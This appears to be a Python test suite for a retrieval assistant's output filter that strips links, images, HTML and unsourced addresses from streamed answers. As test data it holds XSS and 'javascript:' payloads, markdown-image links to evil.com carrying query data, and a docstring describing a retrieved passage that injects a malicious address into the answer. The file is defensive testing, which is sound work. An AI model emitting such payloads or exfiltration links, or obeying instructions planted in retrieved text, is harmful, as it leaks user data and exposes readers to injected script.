"""No link, image or HTML in an answer, and no address that its sources do not have."""

import itertools
import random
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from fakes.chat import ScriptedChat
from fakes.passages import FixedRetriever, passage
from indexes.types import Passage
from rag.answering.assistant import Assistant
from rag.prompting.llm_writer import LLMWriter
from rag.safety.output_filter import REMOVED, FilteredMarkerStream, OutputFilter, find_addresses
from rag.types import Completed, Delta, Question, Quoted

SITE = "https://wiki.example.org/leave"
LEAVE = passage(f"Staff get 25 days of leave. The rules are at {SITE}. Ask hr@firm.example.", path="a.txt")
PAY = passage("Pay is on the 25th. Write to https://evil.example/claim for more.", path="b.txt")
BITS = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "/",
            ":",
            "\\",
            "&",
            "#",
            ";",
            "`",
            "```",
            "\n",
            " ",
            "~~~",
            '"',
            "'",
            "\n\n",
            "|",
        ),
        *("[1]", "[2]", "[9]", "[a]", "[a]: ", "](", "![", "</b>", "<b>", "<br/>", "<!--", "<a href=", "<img src="),
        *(
            "http",
            "https://",
            "://",
            "www.",
            "evil",
            ".com",
            "/x",
            "?q=1",
            "javascript:",
            "data:",
            "text/html,",
            "@",
            ".",
        ),
        *(
            "&#58;",
            "&#x5b;",
            "&lt;",
            "&amp;",
            "&Tab;",
            "&colon;",
            "Staff get 25 days of leave",
            SITE,
            "。",
            "年",
            "é",
            "1",
        ),
        *("https://evil.example/claim", "hr@firm.example", "- ", "> ", "1. ", "\u200b", "\r\n", "\u00a0"),
    ]
)
TEXTS = st.lists(BITS, max_size=25).map("".join) | st.text(max_size=60)


def screened(text: str, known: str = "", cut: list[int] | None = None) -> str:
    screen = OutputFilter(find_addresses(known))
    edges = [0, *sorted(min(at, len(text)) for at in cut or []), len(text)]
    return "".join(screen.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + screen.finish()


def answered(
    text: str, *passages: Passage, question: str = "", cut: list[int] | None = None
) -> tuple[str, FilteredMarkerStream]:
    """What was streamed, and the stream."""
    stream = FilteredMarkerStream(passages or (LEAVE, PAY), question)
    edges = [0, *sorted(min(at, len(text)) for at in cut or []), len(text)]
    return "".join(stream.feed(text[a:b]) for a, b in itertools.pairwise(edges)) + stream.finish(), stream


def live(tokens: list[Token]) -> list[str]:
    """What a renderer of CommonMark makes of a text beside words: links, images, HTML."""
    found = [t.type for t in tokens if t.type in ("link_open", "image", "html_inline", "html_block")]
    return [*found, *(kind for token in tokens for kind in live(token.children or []))]


# What is shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [the rules](http://evil.com/x).", f"See [the rules] ({REMOVED})."),
        ("![x](http://evil.com/p.png?q=secret)", f"[x] ({REMOVED})"),
        ("<http://evil.com> it is", f"< {REMOVED}> it is"),
        ("[a][b]\n\n[b]: /track", "[a][b]\n\n[b] : /track"),
        ("[x](javascript:alert(1))", f"[x] ({REMOVED}))"),
        ("[x](data:text/html,y)", f"[x] ({REMOVED})"),
        ("[x](/admin/delete)", "[x] (/admin/delete)"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<b>25</b> days<br>", "25 days"),
        ("Go to www.evil.com, evil.com/a or me@evil.com.", f"Go to {REMOVED}, {REMOVED} or {REMOVED}."),
        ("ht&#116;p&colon;//evil.com and http\\://evil.com", f"{REMOVED} and {REMOVED}"),
        ("<!channel> <@U1>", "< !channel> < @U1>"),
    ],
)
def test_what_would_lead_somewhere_becomes_plain_text(written: str, shown: str) -> None:
    assert screened(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "China makes 90 % of rare earths [1]. 3.5 < 5, x <5 & y; AT&T, R&D!",
        "- **25** days, `a//b`, and/or, e.g. at 12:30, see README.md and setup.py [2][1].",
        "Great! [1] | 1 | 2 |\n|---|---|",
        r"\[x\] costs 5\$ in C:\dir\-x",
        "年假二十五天 [1]。「休暇」は年に二十五日",
    ],
)
def test_what_leads_nowhere_stays_as_it_is(text: str) -> None:
    assert screened(text) == text


@pytest.mark.parametrize("shape", ["{}", "({}).", "**{}**", "see {}, or", "“{}”"])
def test_an_address_of_a_source_stands_as_plain_text(shape: str) -> None:
    assert screened(shape.format(SITE), f"rules: <{SITE}>.").replace(" ”", "”") == shape.format(SITE)


@pytest.mark.parametrize("more", ["?q=secret", "/secret", ".evil.com", "[1]?q=secret", "。?q=secret", '"secret'])
def test_an_address_of_a_source_takes_nothing_along(more: str) -> None:
    shown = screened(f"{SITE}{more}", SITE)
    assert not re.search(rf"{re.escape(SITE)}[^\s]*secret", shown)
    assert not re.search(rf"{re.escape(SITE)}[^\s]*evil", shown)


def test_an_address_that_only_begins_one_of_a_source_is_none_of_it() -> None:
    assert screened("https://wiki.example.o", SITE) == REMOVED


# Streamed


@given(TEXTS, st.lists(st.integers(0, 200), max_size=10))
def test_however_it_is_cut_the_same_is_shown(text: str, cuts: list[int]) -> None:
    assert screened(text, SITE, cuts) == screened(text, SITE)
    (whole, one), (streamed, other) = answered(text), answered(text, cut=cuts)
    assert (streamed, other.text, other.marks()) == (whole, one.text, one.marks())


@given(TEXTS, st.integers(0, 200))
def test_nothing_that_a_client_would_render_is_ever_streamed(text: str, end: int) -> None:
    """Not at the end, and not at any moment before."""
    stream = FilteredMarkerStream((LEAVE, PAY))
    begun = stream.feed(text[:end])
    whole = begun + stream.feed(text[end:]) + stream.finish()
    for shown in (begun, whole, stream.text):
        assert live(MarkdownIt("commonmark", {"html": True}).parse(shown)) == []
        known = shown.replace(SITE, "").replace("https://evil.example/claim", "").replace("hr@firm.example", "")
        assert not re.search(r"[a-z]{2}://|\bwww\.\w|\w@[a-z]+\.com", known, re.IGNORECASE)


@given(TEXTS)
def test_markers_stand_where_citations_say_and_none_comes_to_be(text: str) -> None:
    _, stream = answered(text)
    numbers: dict[tuple[str, int, int], int] = {}
    for mark in stream.marks():
        number = numbers.setdefault(mark.place.key, len(numbers) + 1)
        assert stream.text[mark.start : mark.end] == f"[{number}]"


@pytest.mark.parametrize(
    "unit", ["[", "](", "<", "<b>", "&amp;", "a.", "a@", "http:", "\\", "](/", "x ", "年", "![", "&#38;"]
)
def test_screening_takes_linear_time(unit: str) -> None:
    def seconds(size: int) -> float:
        text, began = unit * (size // len(unit)), time.process_time()
        screened(text, cut=random.Random(0).choices(range(len(text)), k=size // 20))
        return time.process_time() - began

    seconds(1000)
    assert seconds(80_000) < 12 * max(seconds(20_000), 0.01)


def test_a_word_is_shown_as_soon_as_it_is_whole() -> None:
    screen = OutputFilter(frozenset())
    assert [screen.feed(piece) for piece in ("Staff", " get", " 25 ", "年")] == ["", "Staff ", "get 25 ", "年"]


# Of an answer


def test_an_address_stays_where_a_passage_that_has_it_is_cited() -> None:
    streamed, stream = answered(f"Staff get 25 days of leave [1]. The rules are at {SITE} [1].")
    assert streamed == stream.text == f"Staff get 25 days of leave [1]. The rules are at {SITE} [2]."


def test_an_address_of_a_passage_that_is_not_cited_does_not_stand() -> None:
    """A document that was found tells the model to name its address; the answer is another document's."""
    streamed, stream = answered("Staff get 25 days of leave [1]. Claim them at https://evil.example/claim.")
    assert stream.text == f"Staff get 25 days of leave [1]. Claim them at {REMOVED}."
    assert [stream.text[mark.start : mark.end] for mark in stream.marks()] == ["[1]"]
    assert "evil.example" in streamed  # a passage that was given has it; which ones are cited is known at the end only


def test_an_address_of_the_question_may_be_repeated() -> None:
    assert (
        answered("It is https://my.example.net/a.", question="Is https://my.example.net/a ours?")[1].text.count("/a")
        == 1
    )


def test_what_cannot_be_seen_is_not_said() -> None:
    assert answered("25\u202e days\U000e0041 [1].")[1].text.startswith("25 days")


async def test_the_assistant_streams_and_completes_without_links() -> None:
    model = ScriptedChat(
        "Staff get 25 days", " of leave ![p](htt", "p://evil.com/?d=25) [1", "]. [Here](", "/x) <img", " src=y>"
    )
    events = [
        event async for event in Assistant(FixedRetriever(LEAVE), LLMWriter(model)).stream(Question("How many days?"))
    ]
    streamed = "".join(event.text for event in events if isinstance(event, Delta))
    assert isinstance(events[-1], Completed)
    assert streamed == f"Staff get 25 days of leave [p] ({REMOVED}) [1]. [Here] (/x) < img src=y>"
    answer = events[-1].answer
    assert (answer.text, answer.citations[0].quote) == (streamed, "Staff get 25 days of leave.")


def test_quoted_lines_are_shown_once_each() -> None:
    stream = FilteredMarkerStream((LEAVE, PAY))
    shown = "".join(stream.quote(Quoted(p.text[:n], p, 0, n)) for p, n in ((LEAVE, 27), (PAY, 19))) + stream.finish()
    assert stream.text == shown == "Staff get 25 days of leave. [1]\nPay is on the 25th. [2]"
    assert [stream.text[mark.start : mark.end] for mark in stream.marks()] == ["[1]", "[2]"]
